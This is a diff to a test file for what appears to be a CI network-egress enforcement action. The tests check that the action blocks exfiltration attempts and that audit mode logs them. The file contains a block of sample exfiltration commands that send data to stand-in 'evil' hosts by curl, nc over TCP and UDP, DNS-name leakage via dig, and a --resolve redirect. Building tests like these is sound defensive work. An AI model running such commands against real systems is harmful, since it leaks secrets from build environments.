@@ -2,10 +2,10 @@ import { beforeAll, describe, expect, test } from 'vitest';
 import { asked, type JobResult, reached, runJob, WORLD } from '../runner/runner.ts';
 
 /** What a dependency with bad intentions tries first: by name, by address, raw, over UDP, in DNS. */
-const EXFILTRATION = `
+const EXFILTRATION = `set +e
 curl -sS --max-time 5 'https://evil.test/steal?data=hunter2'
 curl -sSk --max-time 5 https://${WORLD.evil}/steal
-curl -sSk --max-time 5 --resolve ok.test:443:${WORLD.evil} https://ok.test/steal
+curl -sSk --max-time 5 --resolve ok.test:443:${WORLD.evil} https://ok.test/led-astray
 echo data | timeout 3 nc -w1 ${WORLD.evil} 9999
 echo data | timeout 3 nc -u -w1 ${WORLD.evil} 9999
 dig +time=1 +tries=1 hunter2.evil.test @${WORLD.evil}
@@ -47,6 +47,8 @@ describe('a job in enforce mode', () => {
     expect(reached(job, WORLD.evil)).toEqual([]);
     expect(asked(job).filter((name) => name.endsWith('evil.test'))).toEqual([]);
     expect(job.seen.filter(({ url }) => url?.includes('steal'))).toEqual([]);
+    // A name is not an address: the request went to where the name leads.
+    expect(job.seen.filter(({ url }) => url === '/led-astray').map(({ host }) => host)).toEqual(['ok.test']);
   });
 
   test('the log tells each attempt with its process and step', () => {
@@ -62,8 +64,8 @@ describe('a job in enforce mode', () => {
   });
 
   test('the summary has the denials with the line to add, annotations point them out, the artifact holds the log', () => {
-    expect(job.summary).toContain('evil.test');
-    expect(job.summary).toContain('ok.test');
+    expect(job.page).toContain('evil.test');
+    expect(job.page).toContain('ok.test');
     expect(job.annotations.some(({ message }) => message.includes('evil.test'))).toBe(true);
     expect(job.annotations.filter(({ level }) => level === 'error')).toEqual([]);
     const [artifact] = job.artifacts;
@@ -91,14 +93,14 @@ describe('a job in enforce mode', () => {
 });
 
 describe('modes', () => {
-  const evil = { name: 'evil', run: 'curl -sS --max-time 10 https://evil.test/try; getent ahosts other.test; true' };
+  const evil = { name: 'evil', run: 'curl -sS --max-time 10 https://evil.test/try || true; getent ahosts other.test || true' };
 
   test('audit: everything passes, and what the policy would deny is told', async () => {
     const job = await runJob({ action: { with: { policy: 'ok.test', audit: 'true' } }, steps: [evil] });
     expect(job.conclusion).toBe('success');
     expect(job.step('evil').log).toMatch(/^hello from evil\.test/);
     expect(job.log).toContainEqual(expect.objectContaining({ policy: 'deny', audit: true, url: 'https://evil.test/try' }));
-    expect(job.summary).toContain('evil.test');
+    expect(job.page).toContain('evil.test');
     expect(job.artifacts.map(({ name }) => name)).toEqual(['egress-connections']);
   });
 
